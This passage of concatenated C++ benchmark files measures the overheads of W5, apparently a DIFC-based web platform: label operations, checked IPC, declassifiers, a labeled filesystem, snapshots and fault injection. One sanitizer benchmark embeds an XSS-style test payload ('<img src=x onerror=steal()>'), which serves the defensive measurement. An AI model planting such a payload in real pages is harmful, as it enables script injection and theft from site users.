    nested["height"] = 480;
    record["meta"] = std::move(nested);
    array.push_back(std::move(record));
  }
  Json doc;
  doc["records"] = std::move(array);
  return doc;
}

void BM_JsonDump(benchmark::State& state) {
  w5::util::Rng rng(1);
  const Json doc = make_document(static_cast<std::size_t>(state.range(0)),
                                 rng);
  std::size_t bytes = 0;
  for (auto _ : state) {
    const std::string text = doc.dump();
    bytes = text.size();
    benchmark::DoNotOptimize(text.data());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(bytes));
}
BENCHMARK(BM_JsonDump)->Arg(10)->Arg(100)->Arg(1000);

void BM_JsonParse(benchmark::State& state) {
  w5::util::Rng rng(2);
  const std::string text =
      make_document(static_cast<std::size_t>(state.range(0)), rng).dump();
  for (auto _ : state) {
    auto parsed = Json::parse(text);
    if (!parsed.ok()) state.SkipWithError("parse failed");
    benchmark::DoNotOptimize(parsed.value());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          static_cast<std::int64_t>(text.size()));
}
BENCHMARK(BM_JsonParse)->Arg(10)->Arg(100)->Arg(1000);

void BM_JsonCopyOnWrite(benchmark::State& state) {
  w5::util::Rng rng(3);
  const Json doc = make_document(100, rng);
  for (auto _ : state) {
    Json copy = doc;  // O(1) shared copy
    benchmark::DoNotOptimize(copy.at("records"));
  }
}
BENCHMARK(BM_JsonCopyOnWrite);

void BM_JsonMutateAfterCopy(benchmark::State& state) {
  w5::util::Rng rng(4);
  const Json doc = make_document(100, rng);
  for (auto _ : state) {
    Json copy = doc;
    copy["extra"] = 1;  // triggers the object-level copy
    benchmark::DoNotOptimize(copy.at("extra"));
  }
}
BENCHMARK(BM_JsonMutateAfterCopy);

}  // namespace
