// E3 — DIFC label-algebra microbenchmarks (DESIGN.md §5).
//
// The paper's feasibility argument leans on Flume-class systems having
// tolerable overheads; label ops are the innermost loop of every check.
// Series: op latency vs label size (the paper's workloads put 1-3 tags on
// a label; the sweep shows headroom far beyond that).
#include <benchmark/benchmark.h>

#include "difc/flow.h"
#include "difc/label_state.h"
#include "util/rng.h"

namespace {

using w5::difc::CapabilitySet;
using w5::difc::Label;
using w5::difc::LabelState;
using w5::difc::Tag;

Label make_label(std::size_t size, std::uint64_t offset = 0) {
  std::vector<Tag> tags;
  tags.reserve(size);
  for (std::size_t i = 0; i < size; ++i)
    tags.emplace_back(offset + 2 * i + 1);
  return Label(std::move(tags));
}

void BM_LabelSubset(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label small = make_label(n);
  const Label big = make_label(2 * n);  // superset
  for (auto _ : state) {
    benchmark::DoNotOptimize(small.subset_of(big));
  }
  state.SetLabel("tags=" + std::to_string(n));
}
BENCHMARK(BM_LabelSubset)->RangeMultiplier(4)->Range(1, 256);

void BM_LabelSubsetNegative(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label a = make_label(n, 0);
  const Label b = make_label(n, 1000000);  // disjoint
  for (auto _ : state) {
    benchmark::DoNotOptimize(a.subset_of(b));
  }
}
BENCHMARK(BM_LabelSubsetNegative)->RangeMultiplier(4)->Range(1, 256);

void BM_LabelUnion(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label a = make_label(n, 0);
  const Label b = make_label(n, 7);
  for (auto _ : state) {
    benchmark::DoNotOptimize(a.union_with(b));
  }
}
BENCHMARK(BM_LabelUnion)->RangeMultiplier(4)->Range(1, 256);

void BM_LabelSubtract(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label a = make_label(2 * n, 0);
  const Label b = make_label(n, 0);
  for (auto _ : state) {
    benchmark::DoNotOptimize(a.subtract(b));
  }
}
BENCHMARK(BM_LabelSubtract)->RangeMultiplier(4)->Range(1, 256);

void BM_LabelContains(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label label = make_label(n);
  const Tag probe(static_cast<std::uint64_t>(n));  // even id: miss
  for (auto _ : state) {
    benchmark::DoNotOptimize(label.contains(probe));
  }
}
BENCHMARK(BM_LabelContains)->RangeMultiplier(4)->Range(1, 256);

void BM_SafeLabelChange(benchmark::State& state) {
  const auto n = static_cast<std::size_t>(state.range(0));
  const Label from = make_label(n, 0);
  const Label to = make_label(n, 2);  // drop one edge tag, add another
  CapabilitySet caps;
  for (std::size_t i = 0; i < 2 * n + 4; ++i)
    caps.add_dual(Tag(2 * i + 1));
  const LabelState state_obj(from, {}, caps);
  for (auto _ : state) {
    benchmark::DoNotOptimize(state_obj.change_is_safe(from, to));
  }
}
BENCHMARK(BM_SafeLabelChange)->RangeMultiplier(4)->Range(1, 256);

// The typical W5 request-path check: 1-3 user tags against a process.
void BM_TypicalRequestCheck(benchmark::State& state) {
  const Label data = make_label(static_cast<std::size_t>(state.range(0)));
  const LabelState process(data, {}, {});
  const w5::difc::ObjectLabels object{data, {}};
  for (auto _ : state) {
    benchmark::DoNotOptimize(w5::difc::check_read(process, object).ok());
  }
}
BENCHMARK(BM_TypicalRequestCheck)->DenseRange(1, 4);

}  // namespace
