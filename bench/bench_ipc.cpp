// E4 — flow-checked IPC vs an unchecked byte-copy baseline.
//
// Shape expectation: DIFC adds a constant per-message cost that grows
// mildly with label size; the unchecked baseline is the floor.
#include <benchmark/benchmark.h>

#include <deque>

#include "os/ipc.h"

namespace {

using w5::difc::CapabilitySet;
using w5::difc::Label;
using w5::difc::LabelState;
using w5::difc::Tag;
using w5::os::IpcBus;
using w5::os::Kernel;

Label make_label(std::size_t size) {
  std::vector<Tag> tags;
  for (std::size_t i = 0; i < size; ++i) tags.emplace_back(i + 1);
  return Label(std::move(tags));
}

// Baseline: same queue mechanics, no kernel, no labels.
void BM_UncheckedQueue(benchmark::State& state) {
  const std::string payload(static_cast<std::size_t>(state.range(0)), 'x');
  std::deque<std::string> queue;
  for (auto _ : state) {
    queue.push_back(payload);
    benchmark::DoNotOptimize(queue.front());
    queue.pop_front();
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_UncheckedQueue)->Arg(64)->Arg(1024)->Arg(16384);

// W5 IPC between two clean processes (empty labels).
void BM_IpcCleanProcesses(benchmark::State& state) {
  Kernel kernel;
  IpcBus bus(kernel);
  const auto a = kernel.spawn_trusted("a", LabelState({}, {}, {}));
  const auto b = kernel.spawn_trusted("b", LabelState({}, {}, {}));
  const auto channel = bus.connect_default(a, b).value();
  const std::string payload(static_cast<std::size_t>(state.range(0)), 'x');
  for (auto _ : state) {
    (void)bus.send(a, channel, payload);
    benchmark::DoNotOptimize(bus.receive(b, channel));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_IpcCleanProcesses)->Arg(64)->Arg(1024)->Arg(16384);

// Contaminated sender, label size sweep: the realistic W5 hot path.
void BM_IpcLabeledSend(benchmark::State& state) {
  const auto label_size = static_cast<std::size_t>(state.range(0));
  Kernel kernel;
  const Label label = make_label(label_size);
  for (Tag tag : label.tags())
    kernel.add_global_capability(w5::difc::plus(tag));
  IpcBus bus(kernel);
  const auto a = kernel.spawn_trusted("a", LabelState(label, {}, {}));
  const auto b = kernel.spawn_trusted("b", LabelState(label, {}, {}));
  const auto channel = bus.connect_default(a, b).value();
  const std::string payload(1024, 'x');
  for (auto _ : state) {
    (void)bus.send(a, channel, payload);
    benchmark::DoNotOptimize(bus.receive(b, channel));
  }
  state.SetLabel("label_tags=" + std::to_string(label_size));
}
BENCHMARK(BM_IpcLabeledSend)->RangeMultiplier(4)->Range(1, 64);

// Declassifier export pattern: contaminated → clean via fixed endpoint.
void BM_IpcDeclassifiedExport(benchmark::State& state) {
  Kernel kernel;
  const Tag secret(1);
  kernel.tags().create("sec(u)", w5::difc::TagPurpose::kSecrecy);
  IpcBus bus(kernel);
  const auto declassifier = kernel.spawn_trusted(
      "declassifier",
      LabelState({secret}, {}, CapabilitySet{w5::difc::minus(secret)}));
  const auto browser = kernel.spawn_trusted("browser", LabelState({}, {}, {}));
  const auto channel =
      bus.connect(declassifier, w5::difc::Endpoint({}, {}), browser,
                  w5::difc::Endpoint({}, {}))
          .value();
  const std::string payload(1024, 'x');
  for (auto _ : state) {
    (void)bus.send(declassifier, channel, payload);
    benchmark::DoNotOptimize(bus.receive(browser, channel));
  }
}
BENCHMARK(BM_IpcDeclassifiedExport);

// Denied send (the attack path): how much does refusing cost?
void BM_IpcDeniedSend(benchmark::State& state) {
  Kernel kernel;
  const Tag secret(1);
  kernel.tags().create("sec(u)", w5::difc::TagPurpose::kSecrecy);
  kernel.add_global_capability(w5::difc::plus(secret));
  IpcBus bus(kernel);
  const auto malicious =
      kernel.spawn_trusted("malicious", LabelState({}, {}, {}));
  const auto accomplice =
      kernel.spawn_trusted("accomplice", LabelState({}, {}, {}));
  const auto channel =
      bus.connect(malicious,
                  w5::difc::Endpoint({}, {}, w5::difc::Endpoint::Mode::kFixed),
                  accomplice,
                  w5::difc::Endpoint({}, {}, w5::difc::Endpoint::Mode::kFixed))
          .value();
  (void)kernel.raise_secrecy(malicious, Label{secret});
  std::int64_t denied = 0;
  for (auto _ : state) {
    if (!bus.send(malicious, channel, "loot").ok()) ++denied;
  }
  if (denied != state.iterations()) state.SkipWithError("leak got through!");
  state.counters["denied"] = static_cast<double>(denied);
}
BENCHMARK(BM_IpcDeniedSend);

}  // namespace
