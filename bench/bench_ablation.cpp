// Ablations over W5 design choices (DESIGN.md §5, final row): what does
// each platform mechanism cost on the request path, measured by turning
// it off or swapping it?
//
//   A1 — JavaScript sanitizer on/off (HTML responses, §3.5)
//   A2 — declassifier policy choice (owner-only / friends / public /
//         rate-limited) on identical requests
//   A3 — per-request resource containers vs uncontained
//   A4 — session-cookie authentication vs anonymous handling
#include <benchmark/benchmark.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace {

using w5::net::HttpRequest;
using w5::net::HttpResponse;
using w5::net::Method;
using w5::platform::AppContext;
using w5::platform::Module;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

struct Fixture {
  w5::util::WallClock clock;
  Provider provider;
  std::string bob;
  std::string alice;

  explicit Fixture(ProviderConfig config = {})
      : provider(std::move(config), clock) {
    w5::apps::register_standard_apps(provider);
    (void)provider.signup("bob", "password");
    (void)provider.signup("alice", "password");
    bob = provider.login("bob", "password").value();
    alice = provider.login("alice", "password").value();
    (void)provider.http(Method::kPost, "/data/photos/p1",
                        R"({"title":"t","caption":"c","rating":3})", bob);
    (void)provider.http(Method::kPost, "/data/friends/bob",
                        R"({"friends":["alice"]})", bob);
  }

  HttpRequest request(const std::string& target, const std::string& session) {
    HttpRequest r;
    r.method = Method::kGet;
    r.target = target;
    r.parsed = *w5::net::parse_request_target(target);
    if (!session.empty()) r.headers.set("Cookie", "w5session=" + session);
    return r;
  }
};

// ---- A1: sanitizer -----------------------------------------------------------

void bench_html_request(benchmark::State& state, bool strip) {
  ProviderConfig config;
  config.strip_javascript = strip;
  Fixture fx(config);
  Module html_app;
  html_app.developer = "dev";
  html_app.name = "page";
  html_app.version = "1.0";
  const std::string page =
      "<html><body>" + std::string(4096, 'x') +
      "<script>var a=1;</script><img src=x onerror=steal()></body></html>";
  html_app.handler = [page](AppContext&) {
    return HttpResponse::html(200, page);
  };
  (void)fx.provider.modules().add(html_app);
  const auto request = fx.request("/dev/dev/page", fx.bob);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).body.size());
  }
}

void BM_A1_SanitizerOn(benchmark::State& state) {
  bench_html_request(state, true);
}
BENCHMARK(BM_A1_SanitizerOn);

void BM_A1_SanitizerOff(benchmark::State& state) {
  bench_html_request(state, false);
}
BENCHMARK(BM_A1_SanitizerOff);

// ---- A2: declassifier policy --------------------------------------------------

void bench_policy(benchmark::State& state, const std::string& declassifier,
                  bool viewer_is_owner) {
  Fixture fx;
  (void)fx.provider.http(
      Method::kPost, "/policy",
      R"({"declassifier":")" + declassifier + R"("})", fx.bob);
  const auto request =
      fx.request("/dev/photoco/photos/view?id=p1",
                 viewer_is_owner ? fx.bob : fx.alice);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
}

void BM_A2_OwnerOnlyForOwner(benchmark::State& state) {
  bench_policy(state, "std/owner-only", true);
}
BENCHMARK(BM_A2_OwnerOnlyForOwner);

void BM_A2_FriendsForFriend(benchmark::State& state) {
  bench_policy(state, "std/friends", false);  // alice is bob's friend
}
BENCHMARK(BM_A2_FriendsForFriend);

void BM_A2_PublicForAnyone(benchmark::State& state) {
  bench_policy(state, "std/public", false);
}
BENCHMARK(BM_A2_PublicForAnyone);

void BM_A2_RateLimitedFriends(benchmark::State& state) {
  bench_policy(state, "std/friends-rate-limited", true);
}
BENCHMARK(BM_A2_RateLimitedFriends);

// ---- A3: resource containers ---------------------------------------------------

void bench_containers(benchmark::State& state, bool limited) {
  ProviderConfig config;
  if (!limited) {
    const w5::os::ResourceVector unlimited{
        w5::os::kUnlimited, w5::os::kUnlimited, w5::os::kUnlimited,
        w5::os::kUnlimited};
    config.app_limits = unlimited;
    config.request_limits = unlimited;
  }
  Fixture fx(config);
  const auto request =
      fx.request("/dev/photoco/photos/view?id=p1", fx.bob);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).status);
  }
}

void BM_A3_ContainersEnforced(benchmark::State& state) {
  bench_containers(state, true);
}
BENCHMARK(BM_A3_ContainersEnforced);

void BM_A3_ContainersUnlimited(benchmark::State& state) {
  bench_containers(state, false);
}
BENCHMARK(BM_A3_ContainersUnlimited);

// ---- A4: session auth -----------------------------------------------------------

void BM_A4_AuthenticatedRequest(benchmark::State& state) {
  Fixture fx;
  const auto request = fx.request("/whoami", fx.bob);
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).body.size());
  }
}
BENCHMARK(BM_A4_AuthenticatedRequest);

void BM_A4_AnonymousRequest(benchmark::State& state) {
  Fixture fx;
  const auto request = fx.request("/whoami", "");
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.provider.handle(request).body.size());
  }
}
BENCHMARK(BM_A4_AnonymousRequest);

}  // namespace
