// E6 — per-export declassifier decision cost (§3.1).
//
// Declassifiers run on every outbound response carrying a secrecy tag, so
// their decision latency is pure overhead on the request path. Series:
// each standard declassifier, friend-list by list size.
#include <benchmark/benchmark.h>

#include <set>

#include "core/declassifier.h"
#include "util/clock.h"

namespace {

using namespace w5::platform;

ExportRequest request_for(const std::string& viewer) {
  ExportRequest request;
  request.viewer = viewer;
  request.data_owner = "bob";
  request.tag = w5::difc::Tag(1);
  request.module_id = "devA/app@1.0";
  request.destination = "browser";
  request.byte_count = 4096;
  request.distinct_owner_count = 1;
  return request;
}

void BM_OwnerOnlyAllow(benchmark::State& state) {
  auto declassifier = make_owner_only();
  const auto request = request_for("bob");
  for (auto _ : state) {
    benchmark::DoNotOptimize(declassifier->decide(request).ok());
  }
}
BENCHMARK(BM_OwnerOnlyAllow);

void BM_OwnerOnlyDeny(benchmark::State& state) {
  auto declassifier = make_owner_only();
  const auto request = request_for("eve");
  for (auto _ : state) {
    benchmark::DoNotOptimize(declassifier->decide(request).ok());
  }
}
BENCHMARK(BM_OwnerOnlyDeny);

void BM_PublicAllow(benchmark::State& state) {
  auto declassifier = make_public();
  const auto request = request_for("anyone");
  for (auto _ : state) {
    benchmark::DoNotOptimize(declassifier->decide(request).ok());
  }
}
BENCHMARK(BM_PublicAllow);

// Friend-list decision vs friend-list size (set lookup through the
// injected callback, as the provider wires it).
void BM_FriendListDecision(benchmark::State& state) {
  const auto n_friends = static_cast<std::size_t>(state.range(0));
  std::set<std::string> friends;
  for (std::size_t i = 0; i < n_friends; ++i)
    friends.insert("friend" + std::to_string(i));
  auto declassifier = make_friend_list(
      [&friends](const std::string&, const std::string& viewer) {
        return friends.contains(viewer);
      });
  // Worst case: the *last* friend (or a miss).
  const auto hit = request_for("friend" + std::to_string(n_friends - 1));
  const auto miss = request_for("stranger");
  for (auto _ : state) {
    benchmark::DoNotOptimize(declassifier->decide(hit).ok());
    benchmark::DoNotOptimize(declassifier->decide(miss).ok());
  }
  state.SetLabel("friends=" + std::to_string(n_friends));
}
BENCHMARK(BM_FriendListDecision)->RangeMultiplier(10)->Range(10, 100000);

void BM_KAggregateDecision(benchmark::State& state) {
  auto declassifier = make_k_aggregate(3);
  auto request = request_for("analyst");
  request.distinct_owner_count = 5;
  for (auto _ : state) {
    benchmark::DoNotOptimize(declassifier->decide(request).ok());
  }
}
BENCHMARK(BM_KAggregateDecision);

// Rate limiter bookkeeping under a steady allowed stream.
void BM_RateLimitedDecision(benchmark::State& state) {
  w5::util::SimClock clock;
  auto declassifier = make_rate_limited(make_public(), clock,
                                        /*max_exports=*/1u << 30,
                                        /*window=*/1000000);
  const auto request = request_for("viewer");
  for (auto _ : state) {
    clock.advance(10);  // keeps the window sliding
    benchmark::DoNotOptimize(declassifier->decide(request).ok());
  }
}
BENCHMARK(BM_RateLimitedDecision);

}  // namespace
