// Supplemental — provider snapshot/restore: full-state serialization cost
// vs data volume ("policies travel with data", §1, must survive restarts).
#include <benchmark/benchmark.h>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"

namespace {

using w5::net::Method;
using w5::platform::Provider;
using w5::platform::ProviderConfig;

std::unique_ptr<Provider> make_loaded_provider(const w5::util::Clock& clock,
                                               std::size_t users,
                                               std::size_t records_per_user) {
  auto provider = std::make_unique<Provider>(ProviderConfig{}, clock);
  w5::apps::register_standard_apps(*provider);
  for (std::size_t u = 0; u < users; ++u) {
    const std::string name = "user" + std::to_string(u);
    (void)provider->signup(name, "password");
    const std::string session = provider->login(name, "password").value();
    for (std::size_t r = 0; r < records_per_user; ++r) {
      w5::util::Json data;
      data["title"] = "record " + std::to_string(r);
      data["body"] = std::string(256, 'x');
      (void)provider->http(
          Method::kPost,
          "/data/photos/" + name + "-r" + std::to_string(r), data.dump(),
          session);
    }
  }
  return provider;
}

void BM_SnapshotSerialize(benchmark::State& state) {
  w5::util::WallClock clock;
  const auto users = static_cast<std::size_t>(state.range(0));
  auto provider = make_loaded_provider(clock, users, 20);
  std::size_t bytes = 0;
  for (auto _ : state) {
    const std::string text = provider->snapshot().dump();
    bytes = text.size();
    benchmark::DoNotOptimize(text.data());
  }
  state.counters["snapshot_bytes"] = static_cast<double>(bytes);
  state.SetLabel("users=" + std::to_string(users) + " x20 records");
}
BENCHMARK(BM_SnapshotSerialize)->Arg(5)->Arg(50)
    ->Unit(benchmark::kMillisecond);

void BM_SnapshotRestore(benchmark::State& state) {
  w5::util::WallClock clock;
  const auto users = static_cast<std::size_t>(state.range(0));
  auto provider = make_loaded_provider(clock, users, 20);
  const w5::util::Json snapshot = provider->snapshot();
  for (auto _ : state) {
    Provider fresh(ProviderConfig{}, clock);
    if (!fresh.restore(snapshot).ok()) state.SkipWithError("restore failed");
    benchmark::DoNotOptimize(fresh.store().total_records());
  }
  state.SetLabel("users=" + std::to_string(users) + " x20 records");
}
BENCHMARK(BM_SnapshotRestore)->Arg(5)->Arg(50)
    ->Unit(benchmark::kMillisecond);

}  // namespace
