// Supplemental — labeled filesystem and the Unix-facade syscall layer:
// per-op costs with labels on the path vs the raw std::string baseline.
#include <benchmark/benchmark.h>

#include "os/syscalls.h"

namespace {

using w5::difc::Label;
using w5::difc::LabelState;
using w5::difc::ObjectLabels;
using w5::difc::plus;
using w5::difc::Tag;
using w5::os::FileSystem;
using w5::os::IpcBus;
using w5::os::Kernel;
using w5::os::kKernelPid;
using w5::os::OpenMode;
using w5::os::Syscalls;

struct FsFixture {
  Kernel kernel;
  FileSystem fs{kernel};
  IpcBus ipc{kernel};
  Syscalls sys{kernel, fs, ipc};
  Tag secret;
  w5::os::Pid app;

  explicit FsFixture(std::size_t file_bytes) {
    secret = kernel.create_tag(kKernelPid, "sec(u)",
                               w5::difc::TagPurpose::kSecrecy).value();
    kernel.add_global_capability(plus(secret));
    (void)fs.mkdir(kKernelPid, "/users", {});
    (void)fs.create(kKernelPid, "/users/data.txt",
                    ObjectLabels{Label{secret}, {}},
                    std::string(file_bytes, 'x'));
    app = kernel.spawn_trusted("app", LabelState({}, {}, {}));
  }
};

void BM_FsReadTrusted(benchmark::State& state) {
  FsFixture fx(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.fs.read(kKernelPid, "/users/data.txt"));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FsReadTrusted)->Arg(256)->Arg(4096)->Arg(65536);

void BM_FsReadWithAutoRaise(benchmark::State& state) {
  FsFixture fx(static_cast<std::size_t>(state.range(0)));
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.fs.read(fx.app, "/users/data.txt", w5::os::AutoRaise::kYes));
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_FsReadWithAutoRaise)->Arg(256)->Arg(4096)->Arg(65536);

void BM_FsWrite(benchmark::State& state) {
  FsFixture fx(4096);
  const std::string payload(4096, 'y');
  for (auto _ : state) {
    benchmark::DoNotOptimize(
        fx.fs.write(kKernelPid, "/users/data.txt", payload).ok());
  }
}
BENCHMARK(BM_FsWrite);

void BM_FsStatAndList(benchmark::State& state) {
  FsFixture fx(64);
  for (int i = 0; i < 100; ++i) {
    (void)fx.fs.create(kKernelPid, "/users/f" + std::to_string(i), {}, "x");
  }
  for (auto _ : state) {
    benchmark::DoNotOptimize(fx.fs.stat(fx.app, "/users/data.txt"));
    benchmark::DoNotOptimize(fx.fs.list(fx.app, "/users"));
  }
}
BENCHMARK(BM_FsStatAndList);

void BM_SyscallReadLoop(benchmark::State& state) {
  FsFixture fx(65536);
  for (auto _ : state) {
    auto fd = fx.sys.open(fx.app, "/users/data.txt", OpenMode::kRead);
    std::size_t total = 0;
    while (true) {
      auto chunk = fx.sys.read(fx.app, fd.value(), 4096);
      if (!chunk.ok() || chunk.value().empty()) break;
      total += chunk.value().size();
    }
    (void)fx.sys.close(fx.app, fd.value());
    if (total != 65536) state.SkipWithError("short read");
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          65536);
}
BENCHMARK(BM_SyscallReadLoop);

void BM_SyscallPipePingPong(benchmark::State& state) {
  FsFixture fx(64);
  const auto other =
      fx.kernel.spawn_trusted("other", LabelState({}, {}, {}));
  auto fds = fx.sys.pipe(fx.app, other).value();
  const std::string payload(256, 'p');
  for (auto _ : state) {
    (void)fx.sys.write(fx.app, fds.first, payload);
    benchmark::DoNotOptimize(fx.sys.read(other, fds.second, 1024));
  }
}
BENCHMARK(BM_SyscallPipePingPong);

}  // namespace
