// E14 — robustness under deterministic fault injection (DESIGN.md §12).
//
// Drives the HTTP server through FaultyConnection pipes at a seeded
// fault rate and reports tail latency plus an error budget:
//
//   BM_FaultyPipeline/<fault_pct>  — per-request service time with
//       p99_us, error_rate, faults_injected counters (fault delays are
//       virtual — recorded, not slept — so the timing isolates the
//       robustness machinery itself, not the injected waits)
//   BM_PooledChaos — a worker pool serving hundreds of faulty
//       connections end to end; hung_workers must be 0 afterwards (no
//       fault pattern may pin a worker forever)
//
// scripts/bench_json.sh robustness gates on: bounded p99 inflation at
// 10% faults vs clean, error_rate within budget, hung_workers == 0.
#include <benchmark/benchmark.h>

#include <algorithm>
#include <atomic>
#include <string>
#include <vector>

#include "net/fault.h"
#include "net/http_client.h"
#include "net/http_server.h"
#include "net/transport.h"
#include "os/thread_pool.h"
#include "util/clock.h"

namespace {

using w5::net::FaultSchedule;
using w5::net::FaultStats;
using w5::net::FaultyConnection;
using w5::net::HttpRequest;
using w5::net::HttpResponse;
using w5::net::HttpServer;
using w5::net::Method;

FaultSchedule::Profile profile_for(int fault_pct) {
  // Split the requested per-op fault probability across the kinds in the
  // same proportions the chaos tests use.
  const double p = fault_pct / 100.0;
  FaultSchedule::Profile profile;
  profile.delay_probability = p * 0.30;
  profile.short_read_probability = p * 0.35;
  profile.partial_write_probability = p * 0.10;
  profile.drop_probability = p * 0.15;
  profile.reset_probability = p * 0.10;
  profile.min_delay_micros = 50;
  profile.max_delay_micros = 500;
  return profile;
}

HttpRequest make_request(int i) {
  HttpRequest request;
  request.method = Method::kPost;
  request.target = "/bench";
  request.body = "payload-" + std::to_string(i);
  request.headers.set("Connection", "close");
  return request;
}

// One request over one faulty pipe; returns true when handled cleanly.
bool one_request(HttpServer& server, std::uint64_t seed,
                 const FaultSchedule::Profile& profile, int i,
                 FaultStats* faults) {
  auto [client, server_end] = w5::net::make_pipe();
  if (!client->write(make_request(i).to_wire()).ok()) return false;
  FaultyConnection faulty(std::move(server_end),
                          FaultSchedule::seeded(seed, profile),
                          w5::net::no_sleep(), faults);
  auto handled = server.handle_one(faulty);
  return handled.ok() && handled.value();
}

void BM_FaultyPipeline(benchmark::State& state) {
  const int fault_pct = static_cast<int>(state.range(0));
  const FaultSchedule::Profile profile = profile_for(fault_pct);
  HttpServer server([](const HttpRequest& request) {
    return HttpResponse::text(200, "echo:" + request.body);
  });
  FaultStats faults;
  const w5::util::WallClock clock;
  std::vector<w5::util::Micros> latencies;
  latencies.reserve(1 << 16);
  std::uint64_t handled = 0, errored = 0;
  int i = 0;
  for (auto _ : state) {
    const w5::util::Micros start = clock.now();
    const bool ok =
        one_request(server, 0xE14ull + static_cast<std::uint64_t>(i),
                    profile, i, &faults);
    latencies.push_back(clock.now() - start);
    ok ? ++handled : ++errored;
    ++i;
  }
  std::sort(latencies.begin(), latencies.end());
  const auto p99 = latencies.empty()
                       ? 0
                       : latencies[latencies.size() * 99 / 100];
  state.counters["p99_us"] = static_cast<double>(p99);
  state.counters["error_rate"] =
      handled + errored == 0
          ? 0.0
          : static_cast<double>(errored) / static_cast<double>(handled + errored);
  state.counters["faults_injected"] = static_cast<double>(faults.total());
  state.counters["req_per_s"] = benchmark::Counter(
      static_cast<double>(handled + errored), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_FaultyPipeline)->Arg(0)->Arg(10)->Arg(25);

void BM_PooledChaos(benchmark::State& state) {
  const FaultSchedule::Profile profile = profile_for(10);
  std::uint64_t hung_workers = 0, served = 0, round = 0;
  for (auto _ : state) {
    HttpServer server([](const HttpRequest& request) {
      return HttpResponse::text(200, "echo:" + request.body);
    });
    w5::os::ThreadPool pool(4);
    std::atomic<std::uint64_t> done{0};
    constexpr int kConnections = 200;
    for (int i = 0; i < kConnections; ++i) {
      const std::uint64_t seed =
          (round << 32) + static_cast<std::uint64_t>(i);
      pool.submit([&server, &done, &profile, seed, i] {
        FaultStats faults;
        (void)one_request(server, seed, profile, i, &faults);
        done.fetch_add(1);
      });
    }
    // drain() returning at all is the liveness claim: no injected fault
    // pattern may leave a worker stuck mid-connection.
    pool.drain();
    hung_workers += pool.active();
    served += done.load();
    pool.shutdown();
    ++round;
  }
  state.counters["hung_workers"] = static_cast<double>(hung_workers);
  state.counters["connections_served"] = static_cast<double>(served);
  state.counters["conn_per_s"] = benchmark::Counter(
      static_cast<double>(served), benchmark::Counter::kIsRate);
}
BENCHMARK(BM_PooledChaos)->Unit(benchmark::kMillisecond);

}  // namespace
