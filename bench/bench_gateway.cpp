// E2 — end-to-end request path: W5 perimeter vs a no-IFC "silo" baseline.
//
// The silo baseline mirrors Figure 1: the same HTTP parse/route/serialize
// machinery over a plain unlabeled map — application code is trusted with
// access control (i.e., there is none the platform enforces). W5 (Figure
// 2) adds per-request process spawn, labeled store reads, and the
// declassifier-gated export. Shape expectation: a modest constant factor
// (Flume reported ~30-40% on web workloads).
#include <benchmark/benchmark.h>

#include <map>

#include "apps/apps.h"
#include "core/gateway.h"
#include "core/provider.h"
#include "net/router.h"

namespace {

using w5::net::HttpRequest;
using w5::net::HttpResponse;
using w5::net::Method;

HttpRequest make_request(const std::string& target,
                         const std::string& session) {
  HttpRequest request;
  request.method = Method::kGet;
  request.target = target;
  request.parsed = *w5::net::parse_request_target(target);
  if (!session.empty())
    request.headers.set("Cookie", "w5session=" + session);
  return request;
}

// ---- Silo baseline ----------------------------------------------------------

struct Silo {
  w5::net::Router router;
  std::map<std::string, std::string> records;

  explicit Silo(std::size_t payload) {
    records["p1"] = std::string(payload, 'x');
    router.add(Method::kGet, "/photos/:id",
               [this](const HttpRequest&, const w5::net::RouteParams& params) {
                 const auto it = records.find(params.at("id"));
                 if (it == records.end())
                   return HttpResponse::text(404, "no");
                 return HttpResponse::text(200, it->second);
               });
  }
};

void BM_SiloRequest(benchmark::State& state) {
  Silo silo(static_cast<std::size_t>(state.range(0)));
  const HttpRequest request = make_request("/photos/p1", "");
  for (auto _ : state) {
    auto response = silo.router.dispatch(request);
    benchmark::DoNotOptimize(response.body.size());
  }
  state.SetBytesProcessed(static_cast<std::int64_t>(state.iterations()) *
                          state.range(0));
}
BENCHMARK(BM_SiloRequest)->Arg(256)->Arg(4096)->Arg(65536);

// ---- W5 path ----------------------------------------------------------------

struct W5Fixture {
  w5::util::WallClock clock;
  w5::platform::Provider provider;
  std::string session;

  explicit W5Fixture(std::size_t payload)
      : provider(w5::platform::ProviderConfig{}, clock) {
    w5::apps::register_standard_apps(provider);
    (void)provider.signup("bob", "password");
    session = provider.login("bob", "password").value();
    w5::util::Json data;
    data["title"] = "t";
    data["caption"] = std::string(payload, 'x');
    data["rating"] = 1;
    (void)provider.http(Method::kPost, "/data/photos/p1", data.dump(),
                        session);
  }
};

void BM_W5OwnerRequest(benchmark::State& state) {
  W5Fixture fx(static_cast<std::size_t>(state.range(0)));
  const HttpRequest request =
